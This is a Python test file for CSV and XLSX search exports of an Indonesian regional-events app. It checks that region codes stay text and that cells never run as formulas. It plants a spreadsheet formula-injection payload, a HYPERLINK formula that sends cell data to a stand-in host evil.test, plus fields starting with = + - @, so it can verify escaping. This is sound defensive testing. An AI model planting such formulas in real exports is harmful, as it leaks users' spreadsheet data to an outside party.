"""Search exports that survive a spreadsheet: region codes stay text with their dots (74.10 is not 74.1), a
province column, no cell that runs as a formula, and an `.xlsx` whose cells have types (text codes, numbers,
dates). Each file is read back as a spreadsheet program would read it (csv, openpyxl)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from contextlib import contextmanager

BUTON_UTARA = {"code": "74.10", "name": "Kabupaten Buton Utara"}  # a code a spreadsheet would read as 74.1
HOSTILE = "=HYPERLINK(\"http://evil.test/?\"&A1,\"klik\")"


@contextmanager
def hostile_events(site):
    """Events in Buton Utara whose free-text fields start with = + - @ (what a hostile page could plant)."""
    from db import Store

    store = Store(site.url)
    signing = {"article_id": "sda-banjir", "type": "agreement_signing", "regency": BUTON_UTARA, "date": "2024-03-05",
               "venue": "@aula", "people": [{"name": "-Budi Santoso", "role": "+Sekretaris Daerah"}],
               "evidence": HOSTILE, "agreement_kind": "pakta_integritas", "agreement_title": "+62 pakta integritas",
               "agreement_year": 2024, "parties": ["-kepala dinas"]}
    index = {"article_id": "sda-banjir", "type": "index_report", "regency": BUTON_UTARA, "date": None, "venue": None,
             "people": [], "evidence": "Indeks SPBE Buton Utara 2023 sebesar 2,85.", "index": "spbe",
             "index_label": "Indeks SPBE", "value": "2,85", "value_number": 2.85, "year": 2023, "predicate": "baik"}
    store.replace_events(["sda-banjir"], [signing, index])
    try:
        yield
    finally:
        store.replace_events(["sda-banjir"], [])


def csv_rows(site, **params) -> list[dict[str, str]]:
    response = site.client.get("/export.csv", params=params)
    assert response.status_code == 200, response.text[:300]
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_csv_keeps_codes_as_text_names_the_province_and_runs_no_formula(site):
    with hostile_events(site):
        rows = csv_rows(site, regency="74.10")
        assert len(rows) == 2
        for row in rows:
            # ="74.10" is the text form every spreadsheet program keeps as 74.10 (a bare 74.10 becomes 74.1)
            assert row["regency_code"] == '="74.10"' and row["province_code"] == '="74"'
            assert row["province_name"] == "Provinsi Sulawesi Tenggara"
            assert row["regency_name"] == "Kabupaten Buton Utara"
        signing = next(r for r in rows if r["type"] == "agreement_signing")
        assert signing["evidence"] == "'" + HOSTILE
        assert signing["agreement_title"] == "'+62 pakta integritas"
        assert signing["parties"] == "'-kepala dinas" and signing["venue"] == "'@aula"
        assert signing["people"] == "'-Budi Santoso (+Sekretaris Daerah)"
        dangerous = [(name, value) for row in rows for name, value in row.items()
                     if value and value[0] in "=+-@" and name not in ("regency_code", "province_code")]
        assert dangerous == []
        index = next(r for r in rows if r["type"] == "index_report")
        assert index["value"] == "2,85" and index["value_number"] == "2.85" and index["year"] == "2023"


def test_the_command_line_csv_is_the_same_export(site):
    from typer.testing import CliRunner

    from cli.main import app

    with hostile_events(site):
        result = CliRunner().invoke(app, ["search", "--regency", "74.10", "--format", "csv", "--db", site.url])
        assert result.exit_code == 0, result.output
        rows = list(csv.DictReader(io.StringIO(result.stdout)))
        assert {r["regency_code"] for r in rows} == {'="74.10"'}
        assert {r["province_name"] for r in rows} == {"Provinsi Sulawesi Tenggara"}
        assert next(r for r in rows if r["type"] == "agreement_signing")["evidence"] == "'" + HOSTILE


def test_xlsx_cells_are_typed_and_never_formulas(site):
    from openpyxl import load_workbook

    with hostile_events(site):
        response = site.client.get("/export.xlsx", params={"regency": "Buton Utara"})
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("application/vnd.openxmlformats-officedocument")
        assert 'filename="pantau-events-' in response.headers["content-disposition"]
        sheet = load_workbook(io.BytesIO(response.content)).active
        header = [c.value for c in sheet[1]]
        rows = [{name: cell for name, cell in zip(header, line, strict=True)} for line in sheet.iter_rows(min_row=2)]
        assert len(rows) == 2
        for row in rows:
            code = row["regency_code"]
            assert (code.value, code.data_type, code.number_format) == ("74.10", "s", "@")
            assert (row["province_code"].value, row["province_code"].data_type) == ("74", "s")
            assert row["province_name"].value == "Provinsi Sulawesi Tenggara"
        signing = next(r for r in rows if r["type"].value == "agreement_signing")
        assert signing["evidence"].value == HOSTILE and signing["evidence"].data_type == "s"  # text, not "f"
        assert signing["date"].is_date and signing["date"].value.date() == dt.date(2024, 3, 5)
        assert signing["agreement_year"].value == 2024 and signing["agreement_year"].data_type == "n"
        index = next(r for r in rows if r["type"].value == "index_report")
        assert index["value_number"].value == 2.85 and index["value_number"].data_type == "n"
        assert index["value"].value == "2,85" and index["value"].data_type == "s"
        assert index["reports"].value == 1 and index["date"].value is None and index["published"].is_date


def test_xlsx_has_every_matching_event_like_the_csv(site):
    from openpyxl import load_workbook

    csv_ids = [r["id"] for r in csv_rows(site, province="35")]
    sheet = load_workbook(io.BytesIO(site.client.get("/export.xlsx", params={"province": "35"}).content)).active
    header = [c.value for c in sheet[1]]
    assert header[:7] == ["id", "date", "type", "province_code", "province_name", "regency_code", "regency_name"]
    assert [line[0].value for line in sheet.iter_rows(min_row=2)] == csv_ids and len(csv_ids) == 10
    assert site.client.get("/export.xlsx", params={"index": "sakib"}).status_code == 400
